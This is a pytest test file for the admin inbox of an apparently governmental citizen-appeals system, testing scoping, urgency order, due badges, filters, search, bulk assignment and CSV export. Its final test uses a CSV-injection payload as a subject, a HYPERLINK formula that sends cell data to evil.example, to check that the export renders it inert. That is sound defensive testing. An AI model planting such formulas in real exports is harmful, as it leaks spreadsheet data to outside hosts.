"""The inbox (the appeal change list): scope, urgency order, due badges, filters, search, bulk
assignment and the CSV export."""

from __future__ import annotations

import csv
import io

import pytest
from django.utils import timezone

from appeals.calendar import WorkingCalendar
from appeals.models import Appeal, AppealEvent, AppealStatus, Notification
from appeals.selectors import clock_in_words
from appeals.services import appeal_answer, appeal_assign
from conftest import almaty_time
from officials.models import Official

pytestmark = pytest.mark.django_db

INBOX = "/admin/appeals/appeal/"


def numbers_in(html: str, appeals: list[Appeal]) -> list[str]:
    """The tracking numbers of `appeals` in the order the page shows them."""
    found = [(html.find(a.tracking_number), a.tracking_number) for a in appeals if a.tracking_number in html]
    return [number for _, number in sorted(found)]


def test_an_officer_sees_only_the_agencys_appeals(
    client_for, officer, officer_b, file_appeal, education
) -> None:
    mine = file_appeal(subject="Clinic queue")
    theirs = file_appeal(agency=education, subject="School roof")
    html = client_for(officer).get(INBOX).content.decode()
    assert mine.tracking_number in html and theirs.tracking_number not in html
    html_b = client_for(officer_b).get(INBOX).content.decode()
    assert theirs.tracking_number in html_b and mine.tracking_number not in html_b


def test_a_head_sees_the_agencys_children_and_oversight_only_level_2(
    client_for, head, oversight, file_appeal, make_official
) -> None:
    committee = file_appeal(agency=_agency("committee-for-medical-and-pharmaceutical-control"))
    escalated = file_appeal()
    Appeal.objects.filter(pk=escalated.pk).update(escalation_level=2, escalated_to=oversight.agency)
    html = client_for(head).get(INBOX).content.decode()
    assert committee.tracking_number in html and escalated.tracking_number in html
    html = client_for(oversight).get(INBOX).content.decode()
    assert escalated.tracking_number in html and committee.tracking_number not in html


def _agency(slug: str):
    from officials.models import Agency

    return Agency.objects.get(slug=slug)


def test_order_of_all_appeals_is_by_urgency(client_for, officer, file_appeal) -> None:
    later = file_appeal(subject="later", now=almaty_time(2026, 5, 4, 10))
    sooner = file_appeal(subject="sooner", now=almaty_time(2026, 4, 14, 10))
    escalated = file_appeal(subject="escalated", now=almaty_time(2026, 5, 5, 10))
    Appeal.objects.filter(pk=escalated.pk).update(escalation_level=1, overdue_since=timezone.now())
    answered = file_appeal(subject="answered", now=almaty_time(2026, 3, 2, 10))
    appeal_answer(actor=officer.user, appeal=answered, text="Done.")
    html = client_for(officer).get(INBOX + "?show=all").content.decode()
    assert numbers_in(html, [later, sooner, escalated, answered]) == [
        escalated.tracking_number,
        sooner.tracking_number,
        later.tracking_number,
        answered.tracking_number,
    ]


@pytest.mark.parametrize(
    ("offset", "words", "modifier"),
    [
        (-5, "5 working days left", "ok"),
        (-1, "1 working day left", "soon"),
        (0, "due today", "today"),
        (4, "overdue by 4 working days", "overdue"),
    ],
)
def test_due_badge_in_words(file_appeal, offset: int, words: str, modifier: str) -> None:
    appeal = file_appeal(now=almaty_time(2026, 4, 14, 10))
    calendar = WorkingCalendar.load()
    today = (
        calendar.subtract_working_days(appeal.due_on, -offset)
        if offset < 0
        else calendar.add_working_days(appeal.due_on, offset)
    )
    assert clock_in_words(appeal, today=today, calendar=calendar, reader="official") == (words, modifier)


def test_due_badge_names_the_escalation_level(file_appeal) -> None:
    appeal = file_appeal(now=almaty_time(2026, 4, 14, 10))
    appeal.escalation_level = 2
    calendar = WorkingCalendar.load()
    today = calendar.add_working_days(appeal.due_on, 6)
    text, modifier = clock_in_words(appeal, today=today, calendar=calendar, reader="official")
    assert text == "overdue by 6 working days · escalation level 2" and modifier == "overdue"


def test_due_badge_of_a_paused_and_of_an_answered_appeal(file_appeal, officer) -> None:
    appeal = file_appeal()
    calendar = WorkingCalendar.load()
    appeal.status = AppealStatus.AWAITING_CLARIFICATION
    assert (
        clock_in_words(appeal, today=appeal.registered_on, calendar=calendar, reader="official")[1]
        == "paused"
    )
    appeal.status = AppealStatus.ANSWERED
    assert clock_in_words(appeal, today=appeal.registered_on, calendar=calendar, reader="official") == (
        "answered",
        "done",
    )


def test_shortcuts_my_appeals_unassigned_and_overdue(client_for, officer, make_official, file_appeal) -> None:
    colleague = make_official("ministry-of-health")
    mine, theirs, nobodys = file_appeal(), file_appeal(), file_appeal()
    appeal_assign(actor=officer.user, appeal=mine, assignee=officer)
    appeal_assign(actor=officer.user, appeal=theirs, assignee=colleague)
    Appeal.objects.filter(pk=nobodys.pk).update(overdue_since=timezone.now())
    client = client_for(officer)
    page = client.get(INBOX).content.decode()
    assert "?assignee=me" in page and "?assignee=none" in page
    html = client.get(INBOX + "?assignee=me").content.decode()
    assert mine.tracking_number in html and theirs.tracking_number not in html
    html = client.get(INBOX + "?assignee=none").content.decode()
    assert nobodys.tracking_number in html and mine.tracking_number not in html
    html = client.get(INBOX + f"?assignee={colleague.pk}").content.decode()
    assert theirs.tracking_number in html and mine.tracking_number not in html
    html = client.get(INBOX + "?overdue=yes").content.decode()
    assert nobodys.tracking_number in html and mine.tracking_number not in html


def test_filters_by_status_type_region_channel_and_escalation(client_for, officer, file_appeal) -> None:
    complaint = file_appeal(appeal_type="complaint")
    application = file_appeal()
    Appeal.objects.filter(pk=complaint.pk).update(escalation_level=1)
    client = client_for(officer)
    html = client.get(INBOX + "?appeal_type__exact=complaint").content.decode()
    assert complaint.tracking_number in html and application.tracking_number not in html
    html = client.get(INBOX + "?escalation=1").content.decode()
    assert complaint.tracking_number in html and application.tracking_number not in html
    for query in (
        "?status__exact=registered",
        "?channel__exact=web",
        f"?region__id__exact={complaint.region_id}",
    ):
        response = client.get(INBOX + query)
        assert response.status_code == 200
        assert complaint.tracking_number in response.content.decode()


def test_search_by_number_subject_and_text(client_for, officer, officer_b, file_appeal, education) -> None:
    roof = file_appeal(subject="Leaking roof", text="Water comes through the ceiling of ward 3.")
    queue = file_appeal(subject="Clinic queue", text="Three weeks to see a doctor.")
    foreign = file_appeal(agency=education, subject="Leaking roof", text="School ceiling.")
    client = client_for(officer)
    for term in (roof.tracking_number, "roof", "ceiling"):
        html = client.get(INBOX, {"q": term}).content.decode()
        assert roof.tracking_number in html, term
        assert queue.tracking_number not in html and foreign.tracking_number not in html
    html = client.get(INBOX, {"q": "doctor weeks"}).content.decode()
    assert queue.tracking_number in html and roof.tracking_number not in html


def test_inbox_query_count_does_not_grow_with_rows(
    client_for, officer, file_appeal, django_assert_max_num_queries
) -> None:
    for _ in range(25):
        appeal_assign(actor=officer.user, appeal=file_appeal(), assignee=officer)
    client = client_for(officer)
    client.get(INBOX)  # warm the calendar cache
    # 16, and five for the workbench: the visit (read under lock, update), the saved filters,
    # the head check for the workload link and one bulk insert into the personal-data audit.
    with django_assert_max_num_queries(21):
        response = client.get(INBOX)
    assert response.status_code == 200


def test_bulk_assign_through_the_intermediate_page(client_for, head, officer, file_appeal) -> None:
    appeals = [file_appeal(), file_appeal()]
    client = client_for(head)
    ids = [str(a.pk) for a in appeals]
    page = client.post(INBOX, {"action": "assign_selected", "_selected_action": ids})
    assert page.status_code == 200 and "Assign the selected appeals to" in page.content.decode()
    done = client.post(
        INBOX, {"action": "assign_selected", "_selected_action": ids, "apply": "1", "assignee": officer.pk}
    )
    assert done.status_code == 302
    for appeal in appeals:
        appeal.refresh_from_db()
        assert appeal.assignee == officer and appeal.status == AppealStatus.ASSIGNED
        event = AppealEvent.objects.get(appeal=appeal, kind="assigned")
        assert event.actor == head.user
    assert Notification.objects.filter(kind="assigned", recipient=officer.user).count() == 2


def test_bulk_assign_refuses_an_official_of_another_agency(
    client_for, officer, officer_b, file_appeal
) -> None:
    appeal = file_appeal()
    response = client_for(officer).post(
        INBOX,
        {
            "action": "assign_selected",
            "_selected_action": [appeal.pk],
            "apply": "1",
            "assignee": officer_b.pk,
        },
    )
    assert response.status_code == 400
    assert "Select a valid choice" in response.content.decode()
    appeal.refresh_from_db()
    assert appeal.assignee is None and appeal.status == AppealStatus.REGISTERED


def test_bulk_actions_cannot_reach_appeals_outside_the_scope(
    client_for, officer, officer_b, file_appeal, education
) -> None:
    foreign = file_appeal(agency=education)
    response = client_for(officer).post(
        INBOX,
        {"action": "assign_selected", "_selected_action": [foreign.pk], "apply": "1", "assignee": officer.pk},
    )
    # Nothing selected that the officer may see: the admin says so and nothing changes.
    assert response.status_code == 302
    foreign.refresh_from_db()
    assert foreign.assignee is None


def test_csv_export_has_the_scoped_selection_without_personal_data(
    client_for, officer, file_appeal, education, citizen
) -> None:
    mine = file_appeal()
    foreign = file_appeal(agency=education)
    response = client_for(officer).post(
        INBOX, {"action": "export_csv", "_selected_action": [mine.pk, foreign.pk]}
    )
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    body = response.content.decode()
    assert mine.tracking_number in body and foreign.tracking_number not in body
    assert citizen.email not in body and citizen.citizen_profile.iin not in body


def test_officials_of_roles_other_than_handlers_get_no_colleague_filter(
    client_for, oversight: Official
) -> None:
    assert client_for(oversight).get(INBOX).status_code == 200


def test_csv_export_writes_a_citizens_formula_as_inert_text(client_for, officer, file_appeal) -> None:
    appeal = file_appeal(subject='=HYPERLINK("http://evil.example/?"&A1,"Click")')
    response = client_for(officer).post(INBOX, {"action": "export_csv", "_selected_action": [appeal.pk]})
    table = list(csv.reader(io.StringIO(response.content.decode())))
    assert table[1][table[0].index("subject")] == "'" + appeal.subject
